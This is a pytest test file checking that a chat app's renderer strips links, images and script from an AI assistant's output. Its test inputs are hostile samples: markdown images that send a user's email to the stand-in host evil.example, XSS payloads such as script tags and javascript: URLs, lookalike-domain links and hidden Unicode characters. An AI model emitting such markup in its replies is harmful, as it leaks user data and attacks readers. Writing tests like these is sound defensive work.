"""How the assistant's text is shown: whatever a model was talked into writing, it neither loads nor leads anywhere."""

import re

import pytest
from pytest_django.fixtures import Settings

from conversations.templatetags.talk import words

SECRET = "?d=olga%40example.com"


@pytest.fixture(autouse=True)
def _host(settings: Settings) -> None:
    settings.SITE_URL = "https://events.example"


@pytest.mark.parametrize(
    "text",
    [
        f"![logo](https://evil.example/p.png{SECRET})",
        f"[![x](https://evil.example/p.png{SECRET})](https://evil.example)",
        f"![logo][1]\n\n[1]: https://evil.example/p.png{SECRET}",
        f"[see here][1]\n\n[1]: https://evil.example/{SECRET}",
        f'<img src="https://evil.example/p.png{SECRET}">',
        f"<https://evil.example/{SECRET}>",
        f"[click](https://evil.example/{SECRET})",
        f"[click](//evil.example/{SECRET})",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](https://events.example@evil.example/)",
        "[click](https://events.example.evil.example/)",
        "[mail](mailto:evil@evil.example?body=secret)",
        "[call](tel:+1900)",
        "<script>alert(1)</script>",
        "<a href='https://evil.example'>x</a>",
        "<style>@import 'https://evil.example'</style>",
        '<svg onload="alert(1)">',
        "<iframe src=https://evil.example></iframe>",
        '<div style="background:url(https://evil.example)">x</div>',
        "**bold [a](https://evil.example) text**",
    ],
)
def test_nothing_loads_and_nothing_leads_elsewhere(text: str) -> None:
    tags = re.findall(r"<([^>]*)>", words(text))

    assert {tag.strip("/ ") for tag in tags} <= {"p", "br", "strong", "em", "code"}


def test_an_address_elsewhere_is_shown_as_text_beside_its_words() -> None:
    assert words("[Click here](https://evil.example/x?a=1&b=2)") == (
        "<p>Click here (https://evil.example/x?a=1&amp;b=2)</p>\n"
    )
    assert words("[https://evil.example](https://evil.example)") == "<p>https://evil.example</p>\n"


def test_a_label_that_looks_like_our_own_address_shows_where_it_leads() -> None:
    assert "(https://evil.example/)" in words("[https://events.example/login](https://evil.example/)")


def test_our_own_addresses_are_links() -> None:
    assert 'href="https://events.example/jazz/"' in words("[Your page](https://events.example/jazz/)")
    assert words("See https://events.example/jazz/").count("<a ") == 1


@pytest.mark.parametrize(
    "hidden", ["\u202e", "\u2066", "\u200b", "\u200f", "\ufeff", "\U000e0041", "\U000e0101", "\u2063", "\x1b"]
)
def test_what_hides_words_is_taken_out(hidden: str) -> None:
    assert words(f"gnp{hidden}.exe") == "<p>gnp.exe</p>\n"


def test_emoji_and_joined_scripts_stay_whole() -> None:
    assert "👩‍💻" in words("👩‍💻 می‌خواهم")
    assert "می‌خواهم" in words("👩‍💻 می‌خواهم")


def test_what_was_assumed_is_highlighted() -> None:
    assert words("It is called ==Jazz night==.") == "<p>It is called <mark>Jazz night</mark>.</p>\n"
